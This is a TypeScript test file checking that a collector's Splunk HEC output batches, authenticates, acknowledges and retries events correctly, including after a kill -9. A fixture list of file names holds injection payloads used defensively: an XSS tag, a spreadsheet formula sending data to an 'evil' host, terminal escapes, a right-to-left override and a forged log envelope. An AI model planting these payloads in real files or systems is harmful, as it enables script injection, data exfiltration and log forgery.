/**
 * Splunk HEC output against a HEC-compatible endpoint run here (hec-receiver.ts): auth, batches,
 * indexer acknowledgement, retries, hostile strings; on SQLite and (with UPLOAD_GUARD_TEST_PG) PostgreSQL.
 * The kill -9 case runs the collector as its own process.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { sampleEvent } from '../../src/events/sample.js';
import type { UploadEvent } from '../../src/events/schema.js';
import { createCollector, type CollectorOptions } from '../../src/collector/server.js';
import { hecEventUrl } from '../../src/collector/alerts/hec.js';
import { splunkHecOptions } from '../../src/cli/collector.js';
import { PostgresStorage } from '../../src/collector/storage/postgres.js';
import { SqliteStorage } from '../../src/collector/storage/sqlite.js';
import type { Storage } from '../../src/collector/storage/types.js';
import { burst, exited, postEventsResending, spawnCollector, until } from './collector-process.js';
import { hecReceiver } from './hec-receiver.js';

const PG_URL = process.env.UPLOAD_GUARD_TEST_PG;
const INGEST = 'hec-ingest-token-0123456789abc';
const ADMIN = 'hec-admin-token-0123456789abcd';
const HEC_TOKEN = '7c1f3b0e-5d2a-4e8b-9f61-0a2b3c4d5e6f';
const CHANNEL = '0e8f3c2a-1b4d-4c6e-8a9b-7d5e3f1a2c4b';
const dirs: string[] = [];
const tmp = () => {
  const d = mkdtempSync(join(tmpdir(), 'ug-hec-'));
  dirs.push(d);
  return d;
};
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

const backends: [string, () => Promise<{ storage: Storage; done: () => Promise<void> }>][] = [
  ['sqlite', async () => ({ storage: new SqliteStorage({ path: join(tmp(), 'events.db') }), done: async () => {} })],
];
if (PG_URL) {
  backends.push([
    'postgres',
    async () => {
      const schema = `ug_hec_${randomUUID().replace(/-/g, '').slice(0, 12)}`;
      const storage = await PostgresStorage.open({ connectionString: PG_URL, schema });
      return {
        storage,
        done: async () => {
          const s = await PostgresStorage.open({ connectionString: PG_URL, schema });
          await s.dropSchema();
          await s.close();
        },
      };
    },
  ]);
}

async function start(storage: Storage, alerts: CollectorOptions['alerts']) {
  const c = await createCollector({
    storage,
    ingestTokens: [INGEST],
    adminTokens: [ADMIN],
    ingestRateLimit: { perSecond: 1000, burst: 1000 },
    timeWindow: false,
    alerts: { backoff: [50, 100], pollMs: 50, ...alerts },
  });
  return { c, url: await c.listen(0) };
}

const post = (url: string, events: UploadEvent[]) => postEventsResending(url, events, INGEST);

const HOSTILE = [
  '<img src=x onerror=alert(1)>.docx',
  '=HYPERLINK("http://evil/?"&A1,"x").xlsx',
  'line\u2028break\u2029para\u0085next.pdf',
  '\u001b]0;pwned\u0007\u001b[2J.txt',
  'report\u202Efdp.exe',
  '"}\n{"event":"forged","time":1,"host":"h","source":"s","sourcetype":"t"}.txt',
];

describe.each(backends)('Splunk HEC output (%s)', (_name, open) => {
  it('sends every new event once, batched, with auth, envelope fields and indexer acknowledgement; hostile names stay data', async () => {
    const hec = await hecReceiver({ token: HEC_TOKEN, ackAfterPolls: 1 });
    const { storage, done } = await open();
    const { c, url } = await start(storage, { hec: { url: hec.url, token: HEC_TOKEN, channel: CHANNEL } });
    try {
      const events = [
        ...HOSTILE.map((fileName) => sampleEvent({ fileName })),
        ...Array.from({ length: 150 }, () => sampleEvent({ verdict: 'clean', rule: null, action: 'allow', outcome: 'allowed' })),
      ];
      expect((await post(url, events)).status).toBe(200);
      expect((await post(url, events.slice(0, 10))).status).toBe(200); // resends: no second record
      await until('every event at the receiver', () => new Set(hec.envelopes.map((e) => e.fields?.ug_id)).size >= events.length, 20_000);
      await c.outbox.idle(10_000);
      expect(hec.envelopes).toHaveLength(events.length); // no repeat
      expect(hec.bodies.length).toBeGreaterThanOrEqual(2); // batched: 156 events in batches of at most 100
      expect(hec.bodies.every((b) => b.split('\n').length <= 100)).toBe(true);
      expect(hec.ackQueries).toBeGreaterThanOrEqual(hec.bodies.length * 2); // each batch acked on the second poll
      expect(hec.refused).toEqual([]);
      const byId = new Map(hec.envelopes.map((e) => [e.fields!.ug_id as string, e]));
      for (const e of events) {
        const got = byId.get(e.id)!;
        expect(got.time).toBe(Date.parse(e.time) / 1000);
        expect(got.source).toBe('upload-guard');
        expect(got.sourcetype).toBe('upload_guard:event');
        expect(got.event).toMatchObject({ id: e.id, fileName: e.fileName, sha256: e.sha256, action: e.action });
      }
      // The forged envelope inside a file name is part of one event's name, never an event of its own.
      expect(hec.envelopes.some((e) => typeof e.event !== 'object' || e.host === 'h')).toBe(false);
      // Line separators are escaped on the wire: a line-based reader sees one envelope per line.
      expect(hec.bodies.join('')).not.toMatch(/[\u2028\u2029\u0085\u001b]/);
      const metrics = await (await fetch(`${url}/metrics`, { headers: { authorization: `Bearer ${ADMIN}` } })).text();
      expect(metrics).toMatch(/upload_guard_hec_batches_total\{result="sent"\} [2-9]/);
      expect(metrics).toMatch(/upload_guard_alerts_pending 0/);
    } finally {
      await c.close();
      await storage.close();
      await done();
      await hec.close();
    }
  }, 60_000);

  it('retries a refused batch (busy, wrong token) and a batch never acknowledged, until it is delivered', async () => {
    const hec = await hecReceiver({ token: HEC_TOKEN });
    const { storage, done } = await open();
    const { c, url } = await start(storage, { hec: { url: `${hec.url}/services/collector`, token: HEC_TOKEN, channel: CHANNEL, format: 'ocsf' } });
    const wrong = await hecReceiver({ token: HEC_TOKEN, neverAck: true });
    try {
      hec.failNext(2, 503);
      const e = sampleEvent();
      await post(url, [e]);
      await until('the batch delivered after two refusals', () => hec.envelopes.length === 1, 10_000);
      expect(hec.refused).toEqual([503, 503]);
      expect(hec.envelopes[0]!.sourcetype).toBe('ocsf:data_security_finding');
      expect(hec.envelopes[0]!.event).toMatchObject({ class_uid: 2006, finding_info: { uid: e.id } });
      const metrics = await (await fetch(`${url}/metrics`, { headers: { authorization: `Bearer ${ADMIN}` } })).text();
      expect(metrics).toMatch(/upload_guard_hec_batches_total\{result="failed"\} 2/);
    } finally {
      await c.close();
      await storage.close();
      await done();
    }
    // A wrong token: refused with 403 and retried (the operator fixes the token); never acknowledged: sent again.
    const second = await open();
    const bad = await start(second.storage, { hec: { url: wrong.url, token: 'not-the-token', channel: CHANNEL } });
    try {
      await post(bad.url, [sampleEvent()]);
      await until('two refusals', () => wrong.refused.filter((s) => s === 403).length >= 2, 10_000);
      expect(wrong.envelopes).toHaveLength(0);
      const status = await bad.c.outbox.status();
      expect(status.pending).toBe(1);
      expect(status.retrying).toBe(1);
    } finally {
      await bad.c.close();
      await second.storage.close();
      await second.done();
    }
    const third = await open();
    const noAck = await start(third.storage, { hec: { url: wrong.url, token: HEC_TOKEN, channel: CHANNEL, ackTimeoutMs: 200, ackPollMs: 20 } });
    try {
      const e = sampleEvent();
      await post(noAck.url, [e]);
      await until('the unacknowledged batch sent again', () => wrong.envelopes.filter((x) => x.fields?.ug_id === e.id).length >= 2, 10_000);
      expect((await noAck.c.outbox.status()).pending).toBe(1); // not counted delivered without an ack
    } finally {
      await noAck.c.close();
      await third.storage.close();
      await third.done();
      await wrong.close();
      await hec.close();
    }
  }, 60_000);
});

describe('Splunk HEC settings', () => {
  it('takes the token only from the environment and checks URL, channel and format at start', () => {
    const env = { UPLOAD_GUARD_SPLUNK_HEC_TOKEN: HEC_TOKEN };
    expect(splunkHecOptions({ 'splunk-hec': 'https://splunk.example:8088' }, env)).toMatchObject({ token: HEC_TOKEN, format: 'upload-guard' });
    expect(() => splunkHecOptions({ 'splunk-hec': 'https://splunk.example:8088' }, {})).toThrow(/UPLOAD_GUARD_SPLUNK_HEC_TOKEN/);
    expect(() => splunkHecOptions({ 'splunk-hec': 'https://u:p@splunk.example:8088' }, env)).toThrow(/credentials/);
    expect(() => splunkHecOptions({ 'splunk-hec': 'ftp://splunk.example' }, env)).toThrow(/http/);
    expect(() => splunkHecOptions({ 'splunk-hec': 'https://s', 'splunk-hec-channel': 'nope' }, env)).toThrow(/GUID/);
    expect(() => splunkHecOptions({ 'splunk-hec': 'https://s', 'siem-format': 'cef' }, env)).toThrow(/siem-format/);
    expect(() => splunkHecOptions({ 'siem-format': 'ocsf' }, env)).toThrow(/need --splunk-hec/);
    expect(hecEventUrl('https://s:8088').pathname).toBe('/services/collector/event');
    expect(hecEventUrl('https://s:8088/services/collector').pathname).toBe('/services/collector/event');
    expect(hecEventUrl('https://s:8088/proxy/services/collector/event/').pathname).toBe('/proxy/services/collector/event');
  });
});

describe('Splunk HEC through kill -9', () => {
  it('loses no acknowledged event and repeats at most the one batch in flight', async () => {
    const data = tmp();
    const hec = await hecReceiver({ token: HEC_TOKEN, delayMs: 5 });
    const env = {
      UPLOAD_GUARD_INGEST_TOKEN: INGEST,
      UPLOAD_GUARD_ADMIN_TOKEN: ADMIN,
      DATABASE_URL: '',
      UPLOAD_GUARD_SPLUNK_HEC: hec.url,
      UPLOAD_GUARD_SPLUNK_HEC_TOKEN: HEC_TOKEN,
      UPLOAD_GUARD_SPLUNK_HEC_CHANNEL: CHANNEL,
    };
    // The webhook of the shared helper goes to the HEC receiver's unknown path (404, retried): only HEC is checked here.
    let { child, url } = await spawnCollector(data, `${hec.url}/hook`, env);
    const load = burst(url, INGEST, 8);
    const ids = () => hec.envelopes.map((e) => e.fields?.ug_id as string);
    // The indexer stalls once delivery has begun, so the kill always finds acknowledged events not yet
    // delivered (on a fast machine delivery could otherwise keep pace with the burst).
    await until('delivery under way', () => hec.envelopes.length > 0, 60_000);
    hec.pause();
    const delivered = new Set(ids()).size;
    await until('a burst under way', () => load.acked.length >= delivered + 600, 60_000);
    child.kill('SIGKILL');
    await load.stop();
    await exited(child);
    hec.resume(); // the batch held when the collector died is recorded now: it may come again
    expect(new Set(ids()).size).toBeLessThan(load.acked.length); // the kill came during delivery
    ({ child, url } = await spawnCollector(data, `${hec.url}/hook`, env));
    try {
      await until('every acknowledged event at the receiver', () => {
        const got = new Set(ids());
        return load.acked.every((id) => got.has(id));
      }, 90_000);
      // Repeated ids, not repeats: on a loaded machine the batch held by the stalled indexer may also have been
      // sent again on its timeout before the kill, so it can arrive more than twice; what must hold is that
      // only one batch (at most 100 events) was ever sent again.
      const seen = new Set<string>();
      const repeated = new Set(ids().filter((id) => seen.has(id) || !seen.add(id)));
      expect(repeated.size).toBeLessThanOrEqual(100);
      expect(hec.envelopes.every((e) => e.host && e.sourcetype === 'upload_guard:event')).toBe(true);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
      await hec.close();
    }
  }, 180_000);
});
